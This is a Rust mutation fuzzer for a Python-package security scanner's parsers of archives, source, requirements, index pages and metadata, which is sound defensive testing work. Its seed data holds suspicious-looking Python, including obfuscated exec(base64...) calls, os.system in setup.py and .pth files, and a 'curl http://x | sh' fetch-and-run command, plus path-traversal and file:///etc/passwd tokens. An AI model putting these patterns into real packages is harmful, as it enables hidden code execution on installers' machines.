//! A stable-Rust mutation fuzzer for guard's parsers of attacker-controlled
//! bytes (issue 7). No nightly, no coverage feedback: valid seeds built in
//! code are mutated (bit flips, interesting integers, splices, dictionary
//! tokens, truncation) and fed to the target on a thread with the scanner's
//! 256 MiB stack — or, for the resolution-time readers of package metadata,
//! with the 2 MiB of a tokio blocking thread, where the resolver runs them.
//! Panics are caught and the input saved under `fuzz/crashes/`; inputs slower
//! than 2 s are saved under `fuzz/slow/`.
//!
//! ```text
//! cargo run --release --example fuzz -- TARGET SECONDS [SEED]
//! TARGET: archive | python | requirements | index | core-metadata | pyproject
//!         | setup-cfg | setup-py | dist-metadata | all
//! ```
//! Deterministic for a given SEED: the log prints the iteration count so a
//! process-killing input (stack overflow, abort) can be replayed.

use std::io::Write;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use guard::inspect::{python, Role};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
}

const INTERESTING: &[u64] = &[
    0,
    1,
    0x7f,
    0x80,
    0xff,
    0x7fff,
    0x8000,
    0xffff,
    0x7fff_ffff,
    0x8000_0000,
    0xffff_ffff,
    u64::MAX,
    u64::MAX / 2,
];

fn mutate(rng: &mut Rng, input: &mut Vec<u8>, dict: &[&[u8]], pool: &[Vec<u8>]) {
    let rounds = 1 + rng.below(8);
    for _ in 0..rounds {
        let len = input.len();
        match rng.below(10) {
            0 if len > 0 => {
                let i = rng.below(len);
                input[i] ^= 1 << rng.below(8);
            }
            1 if len > 0 => {
                let i = rng.below(len);
                input[i] = rng.next() as u8;
            }
            2 if len > 0 => {
                let v = INTERESTING[rng.below(INTERESTING.len())];
                let width = [1, 2, 4, 8][rng.below(4)];
                let i = rng.below(len);
                for (k, b) in v.to_le_bytes().iter().take(width).enumerate() {
                    if let Some(slot) = input.get_mut(i + k) {
                        *slot = *b;
                    }
                }
            }
            3 if len > 0 => {
                let start = rng.below(len);
                let n = rng.below((len - start).min(64) + 1);
                input.drain(start..start + n);
            }
            4 if len > 0 => {
                // Duplicate a chunk somewhere else.
                let start = rng.below(len);
                let n = rng.below((len - start).min(256) + 1);
                let chunk = input[start..start + n].to_vec();
                let at = rng.below(len + 1);
                input.splice(at..at, chunk);
            }
            5 | 6 if !dict.is_empty() => {
                let tok = dict[rng.below(dict.len())];
                let at = rng.below(len + 1);
                let times = if rng.below(8) == 0 { 1 + rng.below(200) } else { 1 };
                for _ in 0..times {
                    input.splice(at..at, tok.iter().copied());
                }
            }
            7 if len > 0 => {
                input.truncate(rng.below(len));
            }
            8 if !pool.is_empty() => {
                // Splice the tail of another seed.
                let other = &pool[rng.below(pool.len())];
                if !other.is_empty() {
                    let from = rng.below(other.len());
                    let at = rng.below(len + 1);
                    input.truncate(at);
                    input.extend_from_slice(&other[from..]);
                }
            }
            _ => {
                let at = rng.below(len + 1);
                input.insert(at, rng.next() as u8);
            }
        }
        if input.len() > 4 << 20 {
            input.truncate(4 << 20);
        }
    }
}

// ------------------------------------------------------------------ seeds

fn zip_seed(files: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    let mut z = zip::ZipWriter::new(&mut buf);
    let opts = zip::write::SimpleFileOptions::default().compression_method(method);
    for (path, data) in files {
        z.start_file(*path, opts).unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
    buf.into_inner()
}

fn tar_seed(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, path, *data).unwrap();
    }
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(&mut h, "pkg-1.0/link", "../x").unwrap();
    b.into_inner().unwrap()
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn bz2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

const SETUP: &[u8] = b"import os, base64\nfrom setuptools import setup\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('id')\nsetup(name='pkg', version='1.0')\n";
const META: &[u8] = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nRequires-Dist: requests>=2\n";

fn archive_seeds() -> Vec<(&'static str, Vec<u8>)> {
    let files: &[(&str, &[u8])] = &[
        ("pkg/__init__.py", b"VALUE = 1\n"),
        ("pkg-1.0.dist-info/METADATA", META),
        ("pkg-1.0.dist-info/RECORD", b""),
        ("pkg.pth", b"import os; os.system('x')\n"),
    ];
    let sfiles: &[(&str, &[u8])] = &[("pkg-1.0/setup.py", SETUP), ("pkg-1.0/PKG-INFO", META)];
    let tar = tar_seed(sfiles);
    vec![
        (
            "pkg-1.0-py3-none-any.whl",
            zip_seed(files, zip::CompressionMethod::Deflated),
        ),
        (
            "pkg-1.0-py3-none-any.whl",
            zip_seed(files, zip::CompressionMethod::Stored),
        ),
        ("pkg-1.0.zip", zip_seed(sfiles, zip::CompressionMethod::Bzip2)),
        ("pkg-1.0.tar.gz", gz(&tar)),
        ("pkg-1.0.tar.bz2", bz2(&tar)),
        ("pkg-1.0.tar", tar),
    ]
}

const PY_DICT: &[&[u8]] = &[
    b"(",
    b")",
    b"[",
    b"]",
    b"{",
    b"}",
    b"\"",
    b"'",
    b"\"\"\"",
    b"\\",
    b"\n",
    b"    ",
    b":",
    b",",
    b".",
    b"=",
    b"+",
    b"*",
    b"**",
    b"lambda x:",
    b"def f(a):\n    return ",
    b"class A(B):\n    ",
    b"exec(",
    b"eval(",
    b"compile(",
    b"__import__(",
    b"getattr(",
    b"base64.b64decode(",
    b"zlib.decompress(",
    b"codecs.decode(",
    b"bytes.fromhex(",
    b"''.join(chr(c) for c in [",
    b"'ZXhlYygnJyk='",
    b"b'eJzLSM3JyVcozy/KSQEAGgQEXQ=='",
    b"'6578656328272729'",
    b"f'{x}'",
    b"import os\n",
    b"from base64 import b64decode as d\n",
    b"os.system(",
    b"subprocess.Popen(",
    b"urllib.request.urlopen(",
    b"if __name__ == '__main__':\n",
    b"print 'py2'\n",
    b"exec 'x'\n",
    b"\xff\xfe",
    b"\x00",
    b"async def g():\n    await ",
    b"match x:\n    case 1:\n        pass\n",
    b"@decorator\n",
    b"x[::-1]",
    b"% (",
    b".format(",
    b".decode()",
];

fn python_seeds() -> Vec<Vec<u8>> {
    vec![
        SETUP.to_vec(),
        b"import base64\nexec(base64.b64decode(base64.b64decode('WlhobFl5Z25jSEpwYm5Rb01Ta25LUT09')))\n".to_vec(),
        b"from zlib import decompress as z\nk = 'abc'\ns = k[::-1] + 'def'\ndef h(x):\n    return z(x).decode()\nexec(h(b'x\\x9c'))\n"
            .to_vec(),
        b"print 'hello'\nexec \"x=1\"\n".to_vec(),
        b"class A:\n    def run(self):\n        import subprocess\n        subprocess.call(['sh', '-c', 'curl http://x | sh'])\n"
            .to_vec(),
        b"x = ''.join([chr(105), chr(100)])\n__import__('os').system(x)\n".to_vec(),
    ]
}

const REQ_DICT: &[&[u8]] = &[
    b"requests",
    b">=",
    b"==",
    b"~=",
    b"!=",
    b"===",
    b",",
    b";",
    b" and ",
    b" or ",
    b"python_version < '3.8'",
    b"extra == 'x'",
    b"[",
    b"]",
    b"@",
    b" @ https://x/y.whl",
    b"--hash=sha256:",
    b"--index-url ",
    b"--extra-index-url ",
    b"--find-links ",
    b"--no-binary :all:",
    b"--only-binary ",
    b"--pre",
    b"--require-hashes",
    b"-e ",
    b" \\\n",
    b"\n",
    b"#",
    b"${HOME}",
    b"${",
    b"}",
    b"*",
    b".*",
    b"\t",
];

fn requirements_seeds() -> Vec<Vec<u8>> {
    vec![
        b"requests>=2.0,<3 ; python_version >= '3.8'\nflask[async]==3.0.*\n# comment\nnumpy \\\n  --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000\n".to_vec(),
        b"--index-url https://pypi.org/simple\n--extra-index-url https://x/simple\n--pre\nfoo~=1.4.2\nbar!=1.0 ; extra == 'x' and sys_platform == 'linux'\n".to_vec(),
        b"--no-binary :all:\n--only-binary numpy,scipy\nzope.interface===4.0\n".to_vec(),
    ]
}

const INDEX_DICT: &[&[u8]] = &[
    b"<a href=\"",
    b"\">",
    b"</a>",
    b"#sha256=",
    b"#md5=",
    b"data-requires-python=\"&gt;=3.8\"",
    b"data-yanked=\"\"",
    b"data-dist-info-metadata=\"sha256=ab\"",
    b"&amp;",
    b"&#x",
    b"&lt;",
    b"{",
    b"}",
    b"[",
    b"]",
    b"\"",
    b":",
    b",",
    b"null",
    b"true",
    b"1e999",
    b"-1",
    b"18446744073709551616",
    b"\\u0000",
    b"\\ud800",
    b"\"files\":",
    b"\"url\":",
    b"\"hashes\":",
    b"\"yanked\":",
    b"\"core-metadata\":",
    b"../../",
    b"//evil.example/",
    b"file:///etc/passwd",
    b"javascript:",
];

fn index_seeds() -> Vec<Vec<u8>> {
    let h = "a".repeat(64);
    vec![
        format!(r#"{{"meta":{{"api-version":"1.1"}},"name":"pkg","versions":["1.0"],"files":[{{"filename":"pkg-1.0-py3-none-any.whl","url":"../../files/pkg-1.0-py3-none-any.whl","hashes":{{"sha256":"{h}"}},"requires-python":">=3.8","core-metadata":{{"sha256":"{h}"}},"yanked":"bad","size":123,"upload-time":"2024-01-01T00:00:00Z"}}]}}"#).into_bytes(),
        format!(r#"<!DOCTYPE html><html><body><a href="/files/pkg-1.0.tar.gz#sha256={h}" data-requires-python="&gt;=3.8" data-yanked="">pkg-1.0.tar.gz</a><br/><a href="https://x/pkg-2.0-py3-none-any.whl#sha256={h}" data-dist-info-metadata="sha256={h}">pkg-2.0-py3-none-any.whl</a></body></html>"#).into_bytes(),
    ]
}

// ------------------------------------------- resolution-time metadata readers

const METADATA_DICT: &[&[u8]] = &[
    b"\n",
    b"\n ",
    b"\n\n",
    b":",
    b"Metadata-Version: 2.2\n",
    b"Metadata-Version: 1.0\n",
    b"Requires-Dist: ",
    b"Provides-Extra: ",
    b"Requires-Python: ",
    b"Dynamic: Requires-Dist\n",
    b"requests[socks]>=2 ; extra == 'x'",
    b" ; (python_version >= '3' and (os_name == 'nt' or extra == \"a\"))",
    b"(",
    b")",
    b"\xff",
];

const TOML_DICT: &[&[u8]] = &[
    b"[",
    b"]",
    b"{",
    b"}",
    b"\"",
    b"'",
    b"\"\"\"",
    b"'''",
    b"\\",
    b"=",
    b",",
    b"\n",
    b"#",
    b".",
    b"[project]\n",
    b"[build-system]\n",
    b"[project.optional-dependencies]\n",
    b"[[tool.x]]\n",
    b"dependencies = ",
    b"requires = ",
    b"dynamic = [\"dependencies\"]\n",
    b"x = {a = [1, {b = 2}]}\n",
    b"1979-05-27T07:32:00Z",
    b"inf",
    b"nan",
    b"0x7f",
    b"\\u00e9",
    b"\"requests>=2 ; python_version < '3.10'\"",
];

const CFG_DICT: &[&[u8]] = &[
    b"[options]\n",
    b"[options.extras_require]\n",
    b"[metadata]\n",
    b"install_requires =",
    b"install-requires:",
    b"python_requires = >=3.8\n",
    b"\n    ",
    b"\n\t",
    b"\n",
    b"file: requirements.txt",
    b"attr: pkg.deps",
    b"#",
    b";",
    b" #",
    b"=",
    b":",
    b"requests>=2 ; extra == 'x'",
    b"[",
    b"]",
];

const SETUP_DICT: &[&[u8]] = &[
    b"setup(",
    b"setuptools.setup(",
    b"install_requires=",
    b"extras_require={",
    b"python_requires=",
    b"**kw",
    b"REQS = [",
    b"REQS",
    b"'requests>=2'",
    b"\"idna\\n# c\\nrich\"",
    b"(",
    b")",
    b"[",
    b"]",
    b"{",
    b"}",
    b",",
    b":",
    b"'",
    b"\"",
    b"\n",
    b"    ",
    b"if __name__ == '__main__':\n    ",
    b"-",
    b"not ",
    b".",
];

fn core_metadata_seeds() -> Vec<Vec<u8>> {
    vec![
        META.to_vec(),
        b"Metadata-Version: 2.2\nName: pkg\nVersion: 1.0\nRequires-Python: >=3.8\nProvides-Extra: x\nRequires-Dist: rich ; extra == 'x'\nRequires-Dist: idna (>=2.5) ; python_version < \"3.10\"\n\nlong description\n".to_vec(),
    ]
}

fn pyproject_seeds() -> Vec<Vec<u8>> {
    vec![
        b"[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"pkg\"\nversion = \"1.0\"\nrequires-python = \">=3.8\"\ndependencies = [\n  \"requests>=2\",\n  'idna; python_version < \"3.10\"',\n]\n\n[project.optional-dependencies]\ndev = [\"pytest\", \"rich[jupyter]\"]\n".to_vec(),
        b"[project]\nname = 'pkg'\ndynamic = [\"version\"]\ndescription = \"\"\"multi\n[line]\"\"\"\nauthors = [{name = \"A\", email = \"a@b.c\"}]\ndependencies = []\n[tool.x]\ny = {z = [1, [2, [3]]]}\nw = '''[[[raw'''\n".to_vec(),
    ]
}

fn setup_cfg_seeds() -> Vec<Vec<u8>> {
    vec![
        b"[metadata]\nname = pkg\n[options]\npython_requires = >=3.8\ninstall_requires =\n    click>=7\n    colorama; os_name == \"nt\"  # windows\n[options.extras_require]\ndev =\n    pytest\ntoml = tomli\n".to_vec(),
        b"[options]\ninstall_requires = file: requirements.txt\n".to_vec(),
    ]
}

fn setup_py_seeds() -> Vec<Vec<u8>> {
    vec![
        b"from setuptools import setup\nREQS = ['requests>=2', 'idna']\nsetup(name='pkg', install_requires=REQS, extras_require={'x': ['rich'], 'y': 'a\\nb'}, python_requires='>=3.7')\n".to_vec(),
        b"import setuptools\nif __name__ == '__main__':\n    setup(install_requires=('a', 'b'))\n".to_vec(),
        SETUP.to_vec(),
    ]
}

/// What the resolver does with what a reader returns: parse every requirement.
fn parse_requirements<E>(md: Result<guard::resolve::metadata::DistMetadata, E>) {
    if let Ok(md) = md {
        for r in md.requires_dist.iter().chain(&md.build_requires) {
            let _ = guard::requirements::parse_pep508(r);
        }
        if let Some(rp) = &md.requires_python {
            let _ = rp.parse::<pep440_rs::VersionSpecifiers>();
        }
    }
}

/// Reads one sdist file (set by `place`) as the resolver does.
fn sdist_text(data: &[u8], place: impl FnOnce(&mut guard::resolve::metadata::SdistTexts, String)) {
    let mut texts = guard::resolve::metadata::SdistTexts::default();
    place(&mut texts, String::from_utf8_lossy(data).into_owned());
    parse_requirements(guard::resolve::metadata::from_sdist_texts(&texts));
}

// ------------------------------------------------------------------ driver

type Target = fn(&[u8], usize);

struct Spec {
    name: &'static str,
    seeds: Vec<Vec<u8>>,
    dict: &'static [&'static [u8]],
    run: Target,
    /// Stack of the thread the target runs on.
    stack: usize,
}

/// A tokio blocking thread's stack: where the resolver reads metadata.
const RESOLVER_STACK: usize = 2 << 20;

/// The file names the archive readers are given, in the order
/// [`archive_name_index`] maps `archive_seeds` to.
const ARCHIVE_NAMES: [&str; 6] = [
    "pkg-1.0-py3-none-any.whl",
    "pkg-1.0.tar.gz",
    "pkg-1.0.tar.bz2",
    "pkg-1.0.tar",
    "pkg-1.0.zip",
    "pkg-1.0.tar.xz",
];

impl Spec {
    /// A target run on the scanner's large stack (`guard scan`, the inspector).
    fn scanner(name: &'static str, seeds: Vec<Vec<u8>>, dict: &'static [&'static [u8]], run: Target) -> Spec {
        Spec {
            name,
            seeds,
            dict,
            run,
            stack: guard::inspect::STACK_SIZE,
        }
    }

    /// A resolution-time reader, run on a tokio blocking thread's stack.
    fn resolver(name: &'static str, seeds: Vec<Vec<u8>>, dict: &'static [&'static [u8]], run: Target) -> Spec {
        Spec {
            stack: RESOLVER_STACK,
            ..Spec::scanner(name, seeds, dict, run)
        }
    }
}

fn specs() -> Vec<Spec> {
    let archives: Vec<Vec<u8>> = archive_seeds().into_iter().map(|(_, b)| b).collect();
    vec![
        Spec::scanner(
            "archive",
            archives.clone(),
            &[
                b"PK\x03\x04",
                b"PK\x01\x02",
                b"PK\x05\x06",
                b"PK\x06\x06",
                b"../",
                b"/",
                b"\\",
                b"ustar\x00",
            ],
            |data, pick| {
                // Mostly keep the name that matches the seed's format.
                let name = ARCHIVE_NAMES[pick % ARCHIVE_NAMES.len()];
                let inspection = guard::inspect::inspect_bytes(name, data);
                let mut findings = inspection.findings;
                let _ = guard::policy::decide(inspection.name.as_deref(), &mut findings, &Default::default());
            },
        ),
        Spec::scanner("python", python_seeds(), PY_DICT, |data, pick| {
            let roles = [Role::SetupScript, Role::Pth, Role::PackageInit, Role::Module];
            let source = String::from_utf8_lossy(data).into_owned();
            let file = python::analyse_source("pkg-1.0/setup.py", roles[pick % roles.len()], source, 0);
            let _ = file.units().len();
        }),
        Spec::scanner("requirements", requirements_seeds(), REQ_DICT, |data, _| {
            let text = String::from_utf8_lossy(data);
            // Nested -r/-c would read real files; keep the fuzzer off the file system.
            if text.contains("-r") || text.contains("-c") || text.contains("requirement") || text.contains("constraint")
            {
                return;
            }
            let mut set = guard::requirements::RequirementSet::default();
            let path = Path::new("/nonexistent-guard-fuzz/reqs.txt");
            let _ = set.parse_text(path, &text, false, &mut Vec::new());
            for line in text.lines().take(50) {
                let _ = set.add_arg(line);
            }
        }),
        Spec::scanner("index", index_seeds(), INDEX_DICT, |data, _| {
            let page = url::Url::parse("https://pypi.example/simple/pkg/").unwrap();
            let _ = guard::index::simple::parse_json(data, &page);
            let _ = guard::index::simple::parse_html(&String::from_utf8_lossy(data), &page);
        }),
        Spec::resolver("core-metadata", core_metadata_seeds(), METADATA_DICT, |data, _| {
            use guard::resolve::metadata::{from_core_metadata, Source};
            let text = String::from_utf8_lossy(data);
            parse_requirements(from_core_metadata("METADATA", &text, Source::CoreMetadataFile));
            let _ = guard::metadata::CoreMetadata::parse(&text);
        }),
        Spec::resolver("pyproject", pyproject_seeds(), TOML_DICT, |data, _| {
            sdist_text(data, |t, s| t.pyproject = Some(s))
        }),
        Spec::resolver("setup-cfg", setup_cfg_seeds(), CFG_DICT, |data, _| {
            sdist_text(data, |t, s| t.setup_cfg = Some(s))
        }),
        Spec::resolver("setup-py", setup_py_seeds(), SETUP_DICT, |data, pick| {
            sdist_text(data, |t, s| {
                t.setup_py = Some(s);
                // Half the time with a setup.cfg to fall back on.
                if pick % 2 == 1 {
                    t.setup_cfg = Some("[options]\ninstall_requires = a\n".into());
                }
            })
        }),
        Spec::resolver(
            "dist-metadata",
            archives,
            &[
                b"PK\x03\x04",
                b"../",
                b"/",
                b"ustar\x00",
                b"PKG-INFO",
                b"METADATA",
                b"pyproject.toml",
                b"setup.cfg",
            ],
            |data, pick| {
                use guard::resolve::metadata::{from_sdist, from_wheel};
                // The same file names, picked the same way, as the archive target.
                match ARCHIVE_NAMES[pick % ARCHIVE_NAMES.len()] {
                    wheel if wheel.ends_with(".whl") => parse_requirements(from_wheel(wheel, data)),
                    sdist => parse_requirements(from_sdist(sdist, data)),
                }
            },
        ),
    ]
}

fn save(dir: &str, target: &str, data: &[u8]) -> PathBuf {
    use sha2::Digest;
    let hash = hex::encode(sha2::Sha256::digest(data));
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz").join(dir);
    let _ = std::fs::create_dir_all(&dir);
    let path = dir.join(format!("{target}-{}.bin", &hash[..16]));
    let _ = std::fs::write(&path, data);
    path
}

fn fuzz(spec: &Spec, seconds: u64, seed: u64) -> (u64, usize, usize) {
    let mut rng = Rng(seed | 1);
    let start = Instant::now();
    let deadline = start + Duration::from_secs(seconds);
    let (mut iters, mut crashes, mut slow) = (0u64, 0usize, 0usize);
    let mut last_log = Instant::now();
    let mut seen = std::collections::HashSet::new();
    while Instant::now() < deadline {
        let pick = rng.below(spec.seeds.len());
        let mut input = spec.seeds[pick].clone();
        mutate(&mut rng, &mut input, spec.dict, &spec.seeds);
        // The archive target picks the file name from the seed most of the time.
        let name_pick = if rng.below(8) == 0 {
            rng.below(64)
        } else {
            archive_name_index(pick)
        };
        let run = spec.run;
        let t = Instant::now();
        let result = catch_unwind(AssertUnwindSafe(|| run(&input, name_pick)));
        let took = t.elapsed();
        iters += 1;
        if let Err(e) = result {
            crashes += 1;
            let msg = e
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            // One saved input per kind of panic (the message up to its first quote or paren).
            let kind: String = msg
                .chars()
                .take_while(|c| !matches!(c, '(' | '"' | '`' | ':'))
                .collect();
            if seen.insert(kind) {
                let path = save("crashes", spec.name, &input);
                println!("[{}] PANIC at iteration {iters} ({msg}): {}", spec.name, path.display());
            }
        } else if took > Duration::from_secs(2) {
            slow += 1;
            let path = save("slow", spec.name, &input);
            println!(
                "[{}] SLOW {:.1}s at iteration {iters}: {}",
                spec.name,
                took.as_secs_f64(),
                path.display()
            );
        }
        if last_log.elapsed() > Duration::from_secs(60) {
            last_log = Instant::now();
            println!(
                "[{}] {iters} execs in {:.0}s, {crashes} panics, {slow} slow",
                spec.name,
                start.elapsed().as_secs_f64()
            );
            let _ = std::io::stdout().flush();
        }
    }
    (iters, crashes, slow)
}

/// Seeds of the archive target come in the order of `archive_seeds`; map each
/// to the index of its file name in the target's name list.
fn archive_name_index(seed: usize) -> usize {
    // whl, whl, zip, tar.gz, tar.bz2, tar
    [0, 0, 4, 1, 2, 3].get(seed).copied().unwrap_or(0)
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let target = args.get(1).map(String::as_str).unwrap_or("all");
    let seconds: u64 = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(60);
    let seed: u64 = args
        .get(3)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0x5eed_1234_abcd_0001);
    std::panic::set_hook(Box::new(|_| {}));
    for spec in specs() {
        if target != "all" && target != spec.name {
            continue;
        }
        println!("[{}] fuzzing for {seconds}s with seed {seed}", spec.name);
        let spec_ref = &spec;
        let (iters, crashes, slow) = std::thread::scope(|s| {
            std::thread::Builder::new()
                .stack_size(spec_ref.stack)
                .spawn_scoped(s, move || fuzz(spec_ref, seconds, seed))
                .unwrap()
                .join()
                .unwrap()
        });
        println!(
            "[{}] DONE: {iters} execs in {seconds}s, {crashes} panics, {slow} slow",
            spec.name
        );
    }
}
